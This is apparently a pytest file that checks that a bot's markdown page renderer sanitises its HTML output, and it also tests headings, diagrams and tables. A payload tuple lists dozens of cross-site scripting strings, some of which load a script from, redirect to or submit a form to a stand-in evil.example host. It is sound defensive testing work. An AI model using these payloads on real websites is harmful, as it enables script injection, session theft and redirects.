"""A document as a part of a page: nothing that was typed breaks out of it, and what it points to is found."""

import re
from html.parser import HTMLParser

import pytest

from bot.markup.diagrams import diagrams
from bot.markup.web import Heading, Places, page
from tests.bot.finished import documents

TAGS = set("a blockquote br code details div em figure h2 h3 h4 h5 h6 hr li ol p pre strong summary table tbody td th thead tr ul img".split())
ATTRIBUTES = {"href", "title", "rel", "class", "id", "scope", "src", "alt", "width", "height", "loading", "tabindex", "role", "aria-label", "start"}
PLACES = Places(picture=lambda diagram: f"/interviews/1/{diagram.key}.svg", turn=lambda turn: f"#turn-{turn}", prefix="hlsd-")
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img/src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "<!--><script>alert(1)</script>-->",
    "</pre></code></details></figure></div></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    "[x](#turn-1)",
    "[x](http://evil.example' onclick='alert(1))",
    '[x](https://example.com "title\\" onclick=alert(1)")',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[t1]: javascript:alert(1)\n\n[t1]",
    "```mermaid\ngraph TB\n n1[\"</code></pre><script>alert(1)</script>\"]\n```",
    '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TB\n click n1 "javascript:alert(1)"\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "```mermaid \" onload=alert(1)\nx\n```",
    "# <script>alert(1)</script>",
    '# " onclick="alert(1)',
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip


class _Reader(HTMLParser):
    """What a browser would find: tags with their attributes, and whether all are closed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags, self.open = list[tuple[str, dict[str, str]]](), list[str]()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def assert_harmless(html: str) -> None:
    found = _Reader(html)
    assert found.open == []
    for tag, attributes in found.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert re.match(r"https?://|mailto:|#turn-\d+$", attributes.get("href", "#turn-1"))
        assert re.match(r"/interviews/1/[0-9a-f]{32}\.svg$", attributes.get("src", f"/interviews/1/{'0' * 32}.svg"))
        assert attributes.get("id", "hlsd-").startswith("hlsd-")
        if tag == "a":
            assert attributes["rel"] == "noopener nofollow"


@pytest.mark.parametrize("wrapped", ["{}", "> {}", "- {}", "**{}**", "| {} |\n|---|\n| {} |", "[{}](https://example.com)"])
def test_no_payload_breaks_out(wrapped: str) -> None:
    for payload in PAYLOADS:
        assert_harmless(page(wrapped.replace("{}", payload), PLACES).html)


def test_no_relative_address_of_a_writer_is_linked_to() -> None:
    html = page("[a](/logout) [b](//evil.example) [c](#turn-1) [d](https://example.com)", PLACES).html

    assert html.count("<a ") == 1


def test_the_documents_of_the_hostile_candidate_are_harmless() -> None:
    for text in documents("url_shortener_hostile").values():
        assert_harmless(page(text, PLACES).html)


def test_a_page_keeps_its_only_h1_and_its_ids() -> None:
    read = page("# Chat\n\n## Turn 1\n\n## Turn 1\n\n###### Deep", PLACES)

    assert read.headings == (
        Heading(2, "hlsd-chat", "Chat"),
        Heading(3, "hlsd-turn-1", "Turn 1"),
        Heading(3, "hlsd-turn-1-2", "Turn 1"),
        Heading(6, "hlsd-deep", "Deep"),
    )
    assert '<h3 id="hlsd-turn-1-2">Turn 1</h3>' in read.html


def test_marks_of_evidence_lead_to_the_turn() -> None:
    html = page("Said so [t4], a fact [fact, t5], `[t6]`, gone [t9].", Places(turn=lambda turn: f"#turn-{turn}" if turn < 9 else None)).html

    assert '<a class="evidence" href="#turn-4" title="Said in turn 4" rel="noopener nofollow">[t4]</a>' in html
    assert 'href="#turn-5"' in html
    assert "<code>[t6]</code>, gone [t9]." in html


def test_a_diagram_is_a_picture_with_its_text_to_copy() -> None:
    text = documents("chat_middling")["hlsd"]

    read = page(text, PLACES)

    assert read.diagrams == diagrams(text)
    assert f'<img src="/interviews/1/{read.diagrams[0].key}.svg" alt="Diagram of the parts of the system and what calls what: gateway' in read.html
    assert '<details><summary>The text of the diagram, to copy</summary><pre tabindex="0"><code>graph TB' in read.html


def test_a_diagram_that_cannot_be_drawn_is_shown_as_its_text() -> None:
    html = page("```mermaid\ngraph TB\n n1[[[\n```\n\nAfterwards.", PLACES).html

    assert "<img" not in html
    assert "This diagram cannot be shown as a picture; its text says the same." in html
    assert "n1[[[" in html
    assert "<p>Afterwards.</p>" in html


def test_boxes_tables_and_front_matter_are_read() -> None:
    html = page('---\ntitle: "x"\n---\n- [ ] open\n- [x] done\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n', PLACES).html

    assert "<li>☐ open</li>\n<li>☑ done</li>" in html
    assert '<th scope="col">a</th>' in html
    assert "title:" not in html


def test_a_document_beyond_all_measure_is_shown_as_plain_text() -> None:
    html = page("# <b>\n" * 100_000, PLACES).html

    assert html.startswith('<pre tabindex="0"><code># &lt;b&gt;')
